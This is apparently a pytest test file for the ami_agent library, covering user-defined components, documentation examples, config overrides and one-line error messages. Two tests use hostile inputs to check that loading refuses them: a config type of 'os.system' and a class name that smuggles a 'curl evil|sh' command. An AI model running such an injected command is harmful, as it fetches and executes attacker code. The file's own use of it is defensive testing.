"""Components of the user's own: the files and commands of the documentation work as they stand,
what does not fit is named in one line, and a run folder imports no file."""

import re
import shlex
import sys
from contextlib import closing
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
import torch

import ami_agent as ami
import ami_agent.cli.main as cli
from ami_agent import components, config_io, user_components
from ami_agent.ablation import variants
from ami_agent.cli import config_flags
from ami_agent.cli.command_flags import TrainFlags
from ami_agent.cli.main import main
from ami_agent.config import build
from ami_agent.storage import run_dir
from ami_agent.training.actor_critic import choice_loss
from ami_agent.user_components import class_name
from modules.actor.auto_mode import AdaptiveActorConfig
from modules.configurator import TaskSpec
from modules.types import ConfigError
from modules.world_model.dynamics import MLPDynamics, MLPDynamicsConfig
from modules.world_model.jepa import NoEnsemble, NoInteroception, WorldModel
from modules.world_model.latents import Latent
from tests.conftest import error_line

PAGE = (Path(__file__).parents[1] / "docs" / "your-module.md").read_text()
FILES = dict(re.findall(r'```python title="(\w+\.py)"\n(.*?)```', PAGE, re.S))
COMMANDS = [
    line for block in re.findall(r"```sh\n(.*?)```", PAGE, re.S) for line in block.splitlines()
]
SHORT = {
    "collect.num-envs": 8,
    "collect.steps": 32,
    "train-jepa.optim.steps": 3,
    "train-jepa.optim.batch-size": 8,
    "train-goal-critic.optim.steps": 3,
    "train-goal-critic.optim.batch-size": 8,
}
DISTILL = {
    "distill-policy.rounds": 1,
    "distill-policy.num-envs": 4,
    "distill-policy.steps": 2,
    "distill-policy.optim.steps": 2,
    "distill-policy.optim.batch-size": 8,
}


@pytest.fixture
def files(tmp_path, monkeypatch):
    """The files of the documentation in the current folder, and nothing of them in this process."""
    for name, text in FILES.items():
        (tmp_path / name).write_text(text)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(user_components, "_named", {})
    monkeypatch.setattr(user_components, "_known", {})
    monkeypatch.setattr(sys, "path", [*sys.path])
    yield tmp_path
    for name in [name for name in sys.modules if name.startswith("_ami_my_")]:
        del sys.modules[name]


def run(command: str) -> int:
    """The command, with so few steps that it takes seconds."""
    _, *argv = shlex.split(command)
    settings: dict[str, int] = {"episodes": 2}
    if argv[0] == "ablate":
        settings["seeds"] = 1
    if argv[0] != "eval":
        settings |= SHORT if ":fast" in command else SHORT | DISTILL
        argv += ["--eval-env.options", "max_episode_steps", "4"]
    return main([*argv, *(f"--{name}={value}" for name, value in settings.items())])


def test_the_documentation_has_all_five():
    assert list(FILES) == [
        "my_encoder.py", "my_cost.py", "my_planner.py", "my_dynamics.py", "my_recipes.py"
    ]  # fmt: skip
    assert all(text.count("\n") < 40 for text in FILES.values())
    assert len(COMMANDS) == 8


@pytest.mark.parametrize("file", FILES)
def test_the_commands_of_the_documentation_work_unchanged(file, files):
    for command in COMMANDS:
        if file in command:
            assert run(command) == 0, command


def test_the_python_of_the_documentation_trains_an_agent_and_loads_it(files, monkeypatch):
    user_components.allow_components(["my_encoder.py"])
    names = {
        "ami": ami,
        "MyEncoderConfig": user_components.component_class("my_encoder.MyEncoderConfig"),
    }
    paths = {f"stages.{n.replace('-', '_')}": value for n, value in (SHORT | DISTILL).items()}
    train = ami.train
    monkeypatch.setattr(
        ami, "train", lambda config, out: train(ami.override(config, paths), out=out)
    )
    (code,) = re.findall(r"```py\n(.*?)```", PAGE, re.S)
    exec(code, names)
    assert names["agent"].shape == (16, 1, 1)


def test_a_run_folder_imports_no_file(files, capsys):
    assert run(COMMANDS[0]) == 0
    folder = files / "runs" / "two-rooms" / "0"
    assert '"my_encoder.MyEncoderConfig"' in (folder / "config.json").read_text()
    (files / "my_encoder.py").write_text("raise SystemExit('imported')")
    user_components._named.clear()
    user_components._known.clear()
    message = error_line(capsys, "eval", folder, "--episodes", 1)
    assert "config.json needs code that is not imported unless you name it" in message
    assert "my_encoder.MyEncoderConfig" in message
    assert "--import my_encoder.py" in message
    assert "version" not in message


@pytest.mark.parametrize("flag", ["--import", "--env.import"])
def test_training_takes_the_file_of_a_component_by_either_flag(flag, files):
    named = ["--perception", "my_encoder.MyEncoderConfig"]
    config, _ = cli._recipe("two-rooms", [flag, "my_encoder.py", *named], "ami train two-rooms")
    assert class_name(config.perception) == "MyEncoder"


def test_a_resumed_run_keeps_the_settings_of_a_component_whose_class_is_named_again(tmp_path):
    planner = components.CEMConfig(horizon=3)
    config = ami.override(ami.recipes.two_rooms(), {"actor.planner": planner})
    run_dir.create(tmp_path / "run", config, 0, "cpu")
    for argv, expected in (
        ([], planner),
        (["--planner", "CEM"], planner),
        (["--planner", "MPPI"], components.MPPIConfig()),
    ):
        found, _ = cli._recipe("two-rooms", argv, "ami train two-rooms", tmp_path / "run")
        assert found.actor.planner == expected


@dataclass(frozen=True, kw_only=True)
class NarrowConfig:
    """An encoder whose states are narrower than its shape says."""

    def build(self, shapes):
        return Narrow()


class Narrow(ami.Encoder):
    shape = (16, 1, 1)

    def forward(self, obs, modality_weights):
        return obs.float().flatten(1)[:, :5]


@dataclass(frozen=True, kw_only=True)
class BrokenConfig(ami.IntrinsicCostConfig):
    def build(self):
        return lambda rollout, context: rollout.actions.sum()


@dataclass(frozen=True, kw_only=True)
class UnbuildableConfig:
    horizon: int = 3
    iterations: int = 1

    def build(self, evaluator, proposal_fn):
        raise KeyError("no such thing")


@dataclass(frozen=True, kw_only=True)
class UnbuildablePartConfig:
    def build(self, *parts):
        raise KeyError("no such thing")

    build_predictor = build


@dataclass(frozen=True, kw_only=True)
class FailingPartConfig(AdaptiveActorConfig):
    """Makes a part that fails where it is used."""

    def build(self, *parts):
        return FailingPart()


class FailingPart:
    def initial_carry(self, seed):
        return None

    def __call__(self, *arguments):
        raise KeyError("no such thing")

    sample = aggregate = __call__


@dataclass(frozen=True, kw_only=True)
class OtherKindConfig:
    def build(self, shapes):
        return torch.nn.Linear(2, 2)


@dataclass(frozen=True, kw_only=True)
class NoBuildConfig:
    state_dim: int = 3


@pytest.mark.parametrize(
    ("path", "settings", "message"),
    [
        ("perception", NarrowConfig(), r"NarrowConfig: encoding .* gave \(1, 5\); .* \(1, 16\)"),
        (
            "cost.intrinsic",
            {"odd": BrokenConfig()},
            r"odd .*Broken.* gave \(\); .* \(1, 2\)",
        ),
        ("actor.planner", UnbuildableConfig(), "actor.planner .*UnbuildableConfig: build failed"),
        ("perception", OtherKindConfig(), r"build made a Linear; it must be an ami\.Encoder"),
        ("perception", NoBuildConfig(), r"NoBuildConfig has no method build\(\.\.\.\)"),
        ("cost.intrinsic", {"critic": BrokenConfig()}, "a cost is called 'critic' already"),
    ],
)
def test_components_that_do_not_fit_are_named_in_one_line(path, settings, message, tiny):
    config = ami.override(tiny, {path: settings})
    with closing(tiny.env.build(1)) as env:
        spec = env.spec
    with pytest.raises(ConfigError, match=message) as error:
        build(config, spec)
    assert "\n" not in str(error.value)


PARTS = [
    "cost.value_critics", "actor.subgoals", "actor.risk", "actor.stuck_recovery",
    "actor.policy_proposal", "actor.adaptive",
]  # fmt: skip


@pytest.mark.parametrize("path", PARTS)
@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (UnbuildablePartConfig(), r".*UnbuildablePartConfig: build\w* failed: KeyError"),
        (NoBuildConfig(), r".*NoBuildConfig has no method build\w*\(\.\.\.\)"),
        (FailingPartConfig(), ".*FailingPartConfig: .* failed: "),
    ],
    ids=["unbuildable", "no build", "fails"],
)
def test_optional_parts_that_do_not_fit_are_named_in_one_line(path, settings, message, tiny):
    latent = {"world_model.latent": ami.components.GaussianLatentConfig()}
    drives = {"cost.drives": ("reward",), "tasks": {"earn": TaskSpec(drives={"reward": 1.0})}}
    changes = {**latent, **(drives if path == "cost.value_critics" else {}), path: settings}
    with closing(tiny.env.build(1)) as env:
        spec = env.spec
    with pytest.raises(ConfigError, match=re.escape(path) + message) as error:
        build(ami.override(tiny, changes), spec)
    assert "\n" not in str(error.value)


@dataclass(frozen=True, kw_only=True)
class WeightedPlannerConfig:
    horizon: int = 2
    iterations: int = 1

    def build(self, evaluator, proposal_fn):
        return WeightedPlanner(evaluator, proposal_fn)


class WeightedPlanner(torch.nn.Module):
    """Keeps the numbers of proposals that it got from the policy."""

    def __init__(self, evaluator, proposal_fn):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.randn(3))
        self.evaluator, self.proposal_fn, self.counts = [evaluator], proposal_fn, []

    def forward(self, state, context, carry):
        proposals = self.proposal_fn(state, context, carry.rng)
        self.counts.append(proposals.shape[1])
        rest = state.new_zeros(len(state), 1, context.horizon, self.evaluator[0].action_dim)
        return self.evaluator[0].best_plan(state, rest, context), carry


def test_one_planner_serves_plan_and_auto_and_its_weights_are_the_agents(tiny):
    config = ami.override(tiny, {"actor.planner": WeightedPlannerConfig()})
    with closing(tiny.env.build(1)) as env:
        spec = env.spec
    agent, again, other = (build(config, spec, seed=seed) for seed in (0, 0, 1))
    assert agent.actors["auto"].planner is agent.actors["plan"].planner is agent.planner
    assert agent.state_dict()["planner.weight"] is not None
    assert torch.equal(agent.planner.weight, again.planner.weight)
    assert not torch.equal(agent.planner.weight, other.planner.weight)
    agent.plan_energy_predictor.mean.fill_(-1e6)  # so that auto plans
    controller = agent.controller(tensors=True)
    for mode, count in (("plan", 1), ("auto", 0)):  # which gives the policy's rollout itself
        controller.set_task(ami.Task(goal=spec.zeros(1), mode=mode))
        assert controller.act(spec.zeros(1)).planned.all()
        assert agent.planner.counts[-1] == count


def test_settings_of_the_users_own_are_read_back_from_json(tiny, monkeypatch):
    monkeypatch.setattr(user_components, "_named", {__name__: __name__})
    config = ami.override(
        tiny, {"perception": NarrowConfig(), "cost.intrinsic": {"odd": BrokenConfig(weight=2.0)}}
    )
    data = config_io.to_json(config)
    assert data["perception"] == {"_type": f"{__name__}.NarrowConfig"}
    assert data["cost"]["intrinsic"] == {
        "odd": {"weight": 2.0, "_type": f"{__name__}.BrokenConfig"}
    }
    assert config_io.from_json(data, "here") == config
    data["perception"]["_type"] = "os.system"
    with pytest.raises(ConfigError, match=r"os\.system is a component that is not part of AMI"):
        config_io.from_json(data, "here")


def test_a_further_cost_counts_in_every_plan_with_its_weight(tiny):
    @dataclass(frozen=True, kw_only=True)
    class Effort(ami.IntrinsicCostConfig):
        def build(self):
            return lambda rollout, context: rollout.actions.square().sum((-2, -1))

    with closing(tiny.env.build(1)) as env:
        spec = env.spec
    agent = build(ami.override(tiny, {"cost.intrinsic": {"mine": Effort(weight=3.0)}}), spec)
    controller = agent.controller(tensors=True)
    controller.set_task(ami.Task(goal=spec.zeros(1)))
    plan = controller.act(spec.zeros(1))
    torch.testing.assert_close(plan.terms["mine"], 3 * plan.actions.square().sum((-2, -1)))


def test_a_component_is_chosen_by_the_name_of_its_class():
    config, left = config_flags.choose_components(
        ami.recipes.two_rooms(), ["--planner", "cem", "--planner.horizon", "5", "--seed=3"]
    )
    assert config.actor.planner == ami.components.CEMConfig()
    assert left == ["--planner.horizon", "5", "--seed=3"]
    with pytest.raises(
        ConfigError, match=r"--planner Oracle: actor\.planner may be GradientPlanner"
    ):
        config_flags.choose_components(config, ["--planner", "Oracle"])
    swapped = variants(config, (), ("dynamics=FourierDynamics",))["dynamics=FourierDynamics"]
    assert isinstance(swapped.world_model.dynamics, ami.components.FourierDynamicsConfig)


def test_a_component_that_is_left_out_is_none_and_has_no_flags():
    flags = ["--goal-critic", "none", "--world-model.latent", "GaussianLatent"]
    config, left = config_flags.choose_components(ami.recipes.two_rooms(), flags)
    assert config.cost.goal_critic is None
    assert config.world_model.latent == ami.components.GaussianLatentConfig()
    assert left == []
    data = config_io.to_json(config)
    assert data["cost"]["goal_critic"] is None
    assert config_io.from_json(data, "here") == config
    with pytest.raises(ConfigError, match=r"--goal-critic\.distance\.hidden"):
        config_flags.parse(TrainFlags(config=config), ["--goal-critic.distance.hidden", "3"], "ami")
    with pytest.raises(ConfigError, match="planner may be GradientPlanner"):
        config_flags.choose_components(config, ["--planner", "none"])
    data["world_model"]["dynamics"] = None
    with pytest.raises(ConfigError, match=r"world_model\.dynamics: None is given"):
        config_io.from_json(data, "here")
    changes = config_io.differences(
        config_io.to_json(config), config_io.to_json(ami.recipes.two_rooms())
    )
    assert changes == [
        "world_model.latent is 'GaussianLatentConfig', not None",
        "cost.goal_critic is None, not 'GoalCriticConfig'",
    ]


def test_override_changes_settings_by_path_and_keeps_the_order_of_stages():
    base = ami.recipes.two_rooms()
    changed = ami.override(
        base,
        {
            "actor.planner.horizon": 3,
            "stages.train_jepa.optim.steps": 7,
            "stages.train_jepa.length": 5,
            "stages.distill_policy": None,
            "stages.planner_rollouts": ami.training.CollectWithPlanner(),
        },
    )
    assert changed.actor.planner == replace(base.actor.planner, horizon=3)
    stage = changed.stages["train_jepa"]
    assert (stage.optim.steps, stage.length) == (7, 5)
    assert list(changed.stages) == [
        "collect",
        "train_jepa",
        "train_goal_critic",
        "planner_rollouts",
    ]
    assert list(base.stages)[-1] == "distill_policy"
    with pytest.raises(ConfigError, match=r"actor\.planer is no setting; there are planner"):
        ami.override(base, {"actor.planer": 1})
    with pytest.raises(ConfigError, match=r"stages\.retrain is no setting"):
        ami.override(base, {"stages.retrain.steps": 1})


def test_a_recipe_function_must_return_a_config(files, capsys):
    (files / "other.py").write_text("def recipe():\n    return 3\n")
    assert "must return an ami.Config, not int" in error_line(capsys, "train", "other.py:recipe")


@pytest.mark.parametrize(
    ("old", "new"), [("--curve", "--eval-every-stage"), ("--teacher.optim.steps", "--train-goal-")]
)
def test_an_old_flag_names_the_new_one(old, new, capsys):
    assert f"{old} is called {new}" in error_line(capsys, "train", "two-rooms", old, "3")


def test_a_class_that_a_named_file_only_imports_is_refused(files):
    """A run folder may not reach through a file of the user's to what that file imports."""
    (files / "mine.py").write_text("from ami_agent import EnvConfig\n")
    user_components.allow_components(["mine.py"])
    with pytest.raises(ConfigError, match="mine defines no class 'EnvConfig'"):
        user_components.component_class("mine.EnvConfig")
    with pytest.raises(ConfigError, match=r"is no class, MODULE\.CLASS"):
        user_components.component_class("a;curl evil|sh #.X")


def test_settings_must_be_frozen_and_name_what_is_needed(files, tiny):
    (files / "soft.py").write_text(
        "from dataclasses import dataclass\n@dataclass\nclass Soft:\n    def build(self): ...\n"
    )
    user_components.allow_components(["soft.py"])
    with pytest.raises(ConfigError, match=r"soft\.Soft is no frozen dataclass"):
        user_components.component_class("soft.Soft")
    with closing(tiny.env.build(1)) as env, pytest.raises(ConfigError, match="has no horizon"):
        build(ami.override(tiny, {"actor.planner": NoBuildConfig()}), env.spec)


def test_the_weight_of_a_further_cost_is_a_flag_and_a_class_is_named_once(files):
    base = ami.recipes.two_rooms()
    flags = [
        "--intrinsic.smoothness",
        "my_cost.SmoothnessConfig",
        "--intrinsic.smoothness.weight=2",
    ]
    user_components.allow_components(["my_cost.py"])
    config, left = config_flags.choose_components(base, flags)
    assert config.cost.intrinsic["smoothness"].weight == 2.0
    assert left == []
    with pytest.raises(ConfigError, match="--planner is given 2 times"):
        config_flags.choose_components(base, ["--planner", "CEM", "--planner", "MPPI"])


def test_override_keeps_values_of_none_and_refuses_a_part_beside_its_whole():
    base = ami.override(ami.recipes.two_rooms(), {"env.options": {"a": None, "b": 1}})
    assert ami.override(base, {"env.options.b": 2}).env.options == {"a": None, "b": 2}
    whole = ami.components.CEMConfig()
    for changes in (
        {"actor.planner.horizon": 3, "actor.planner": whole},
        {"actor.planner": whole, "actor.planner.horizon": 3},
    ):
        with pytest.raises(ConfigError, match="can't be changed beside"):
            ami.override(base, changes)
    with pytest.raises(ConfigError, match="recipe is 'two-rooms', which has no parts to change"):
        ami.override(base, {"recipe.x": 1})


def test_of_options_of_equal_energy_the_policy_learns_none_and_of_rounding_errors_little():
    energy = 1e4 + 1e-3 * torch.tensor([[0.0, 1.0, 0.0]])
    logits = torch.zeros(1, 3, requires_grad=True)
    (slope,) = torch.autograd.grad(choice_loss(logits, energy, (3,))["choice"], logits)
    assert slope.abs().max() < 0.25


def test_a_task_of_an_own_intrinsic_cost_alone_needs_neither_goal_nor_drives(tiny):
    @dataclass(frozen=True, kw_only=True)
    class Height(ami.IntrinsicCostConfig):
        def build(self):
            return lambda rollout, context: -rollout.states[..., 0].mean(-1)

    changes = {"cost.intrinsic": {"height": Height(weight=1.0)}, "configurator.critic": 0.0}
    with closing(tiny.env.build(1)) as env:
        agent = build(ami.override(tiny, changes), env.spec)
    controller = agent.controller(task=ami.Task(), tensors=True)
    assert controller.act(agent.spec.zeros(1)).terms.keys() >= {"height"}


def test_the_forward_of_a_subclass_of_the_dynamics_is_the_one_that_is_unrolled():
    class Still(MLPDynamics):
        def forward(self, state, action_latent):
            return state

    config = MLPDynamicsConfig(hidden=4)
    plain = config.build((3, 1, 1), 2)
    still = Still(plain.input_layer, 4, 3, 2, 0)
    torch.nn.init.normal_(still.delta_head.weight)
    state = torch.randn(2, 3)
    model = WorldModel(still, Latent(), NoInteroception(), NoEnsemble(), 2)
    states = model.unroll(state, torch.ones(2, 4, 2))
    assert torch.equal(states, state[:, None].expand(-1, 5, -1))
